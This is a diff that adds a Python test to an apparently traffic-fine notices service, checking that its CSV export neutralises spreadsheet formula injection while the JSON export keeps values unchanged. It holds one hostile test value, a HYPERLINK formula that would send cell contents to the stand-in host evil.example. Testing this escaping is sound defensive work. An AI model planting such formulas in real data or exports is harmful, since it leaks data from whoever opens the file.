@@ -87,3 +87,29 @@ async def test_export_contains_exactly_the_issued_ones(
     assert "22BBB2" in letter.text
     assert no_letter.status_code == 409
     assert reviewer_letter.status_code == 403
+
+
+async def test_a_formula_in_a_regime_text_reaches_the_csv_as_text_and_the_json_as_it_is(
+    isolated: Callable[..., Any], run_app: Callable[..., Any]
+) -> None:
+    settings = notices_settings(isolated)
+    formula = '=HYPERLINK("http://evil.example/?leak="&A2,"RVV")'
+    hostile = a_candidate(plate="66FFF6", legal_reference=formula, regime_version="+1-1")
+    app = create_app(settings)
+    async with run_app(app), api(app) as client:
+        assert (await client.post("/v1/exports", headers=SUPERVISOR)).status_code == 201  # others' issued ones
+        await publish(settings.kafka_bootstrap, settings.topic(CANDIDATES.name), hostile)
+        candidate_id = str(await arrived(settings, hostile.candidate_key))
+        decided = await client.post(
+            f"/v1/candidates/{candidate_id}/decision", json={"decision": "accept"}, headers=REVIEWER
+        )
+        assert decided.status_code == 200, decided.text
+        batch = (await client.post("/v1/exports", headers=SUPERVISOR)).json()
+        as_csv = await client.get(batch["csv"], headers=SUPERVISOR)
+        as_json = await client.get(batch["json"], headers=SUPERVISOR)
+
+    [row] = list(csv.DictReader(io.StringIO(as_csv.text)))
+    assert (row["legal_reference"], row["regime_version"]) == ("'" + formula, "'+1-1")
+    assert (row["plate"], row["amount_eur"]) == ("66FFF6", "120")
+    [item] = as_json.json()["items"]
+    assert (item["legal_reference"], item["regime_version"]) == (formula, "+1-1")
